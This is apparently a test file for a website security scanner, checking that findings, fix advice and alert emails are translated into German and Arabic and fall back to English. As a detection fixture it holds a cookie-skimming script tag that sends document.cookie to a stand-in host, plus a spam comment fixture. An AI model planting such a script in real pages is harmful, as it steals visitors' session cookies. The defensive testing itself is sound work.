import { defineModule, moduleBuilder } from "@waymark/core";
import { expect, test } from "vitest";
import { tables } from "../tables.ts";
import { base, startSite } from "./site.ts";

const skimmer = `<script>new Image().src="//tides.example/?"+document.cookie</script>`;
const fix = "Open it in the editor, remove this part, and check who changed it last.";
const english = {
  shortMsg: "A script in “Fog” sends cookies of visitors to another host.",
  longMsg: expect.stringMatching(
    /^<p>A script in “Fog” sends cookies of visitors to another host\.<\/p><p><code>.+<\/code><\/p><p>Open it/,
  ),
  timeAgo: "3 hours",
  displayTime: "Jan 15, 2026, 5:00 PM",
};

/** Makes issues like those of versions that stored English texts only, or that knew other texts. */
const changeTexts = moduleBuilder({ tables }).defineTask(
  "table-access.change-texts",
  ({ transaction }, { to }: { readonly to: "none" | "unknown" }) =>
    transaction(async ({ db }) => {
      for (const { id, data } of await db.issues.find({})) {
        const { texts: _texts, ...others } = data;
        const unknown = { message: { key: "later", values: {} }, fix: "removePart" } as never;
        await db.issues.update(id, {
          data: to === "none" ? others : { ...others, texts: unknown },
        });
      }
    }),
);
const tableAccess = defineModule({
  name: "table-access",
  requires: ["security"],
  tasks: [changeTexts],
});

async function scanned() {
  const site = await startSite({ languages: ["ar", "de"], modules: [tableAccess()] });
  await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
  await site.scan();
  site.clock.advance(3 * 3_600_000);
  const first = async (language: string) =>
    (await site.list({ _lang: language })).issues.new[0] as Record<string, unknown>;
  return Object.assign(site, { first });
}

test("findings are in the language of the reader", async () => {
  await using site = await scanned();
  expect(await site.first("en")).toMatchObject({ ...english, data: { fix } });
  expect((await site.first("en"))["data"]).not.toHaveProperty("texts");
  expect(await site.first("de")).toMatchObject({
    shortMsg: "Ein Skript in „Fog“ sendet Cookies von Besuchern an einen anderen Host.",
    longMsg: expect.stringContaining("<p>Öffnen Sie den Inhalt im Editor"),
    timeAgo: "3 Stunden",
    data: { fix: expect.stringMatching(/^Öffnen Sie den Inhalt/), stage: "content" },
  });
  expect(await site.first("ar")).toMatchObject({
    shortMsg: "سكربت في «Fog» يرسل ملفات تعريف ارتباط الزوار إلى مضيف آخر.",
    timeAgo: "3 ساعات",
  });
});

test("names of objects that are texts themselves are translated", async () => {
  await using site = await startSite({ languages: ["de"] });
  const post = await site.admin.post("/core/v2/posts", { title: "Fog", status: "publish" });
  await site.admin.post("/core/v2/comments", {
    post: post.body.id,
    author_name: "Free spins",
    author_email: "a@quay.example",
    content: "No deposit bonus at https://casino.example/",
  });
  await site.scan();
  const { body } = await site.admin.get(`${base}/scan/issues`, { _lang: "de" });
  expect(body.issues.new[0].shortMsg).toBe("„Kommentar 1 von Free spins“ enthält Spam.");
});

test.each(["none", "unknown"] as const)(
  "issues with %s texts keep those in English",
  async (to) => {
    await using site = await scanned();
    await site.site.run(changeTexts, { to });
    expect(await site.first("de")).toMatchObject({
      shortMsg: english.shortMsg,
      longMsg: english.longMsg,
      data: { fix },
    });
  },
);

test("mails about findings are in the language of the site", async () => {
  await using site = await startSite({ languages: ["de"], locale: "de-DE" });
  await site.set({ alertEmails: "keeper@quay.example", alertOn_scanIssues: true });
  await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
  await site.scan();
  expect(site.mail.sent.at(-1)?.text).toContain(
    "[kritisch] Ein Skript in „Fog“ sendet Cookies von Besuchern an einen anderen Host.",
  );
});
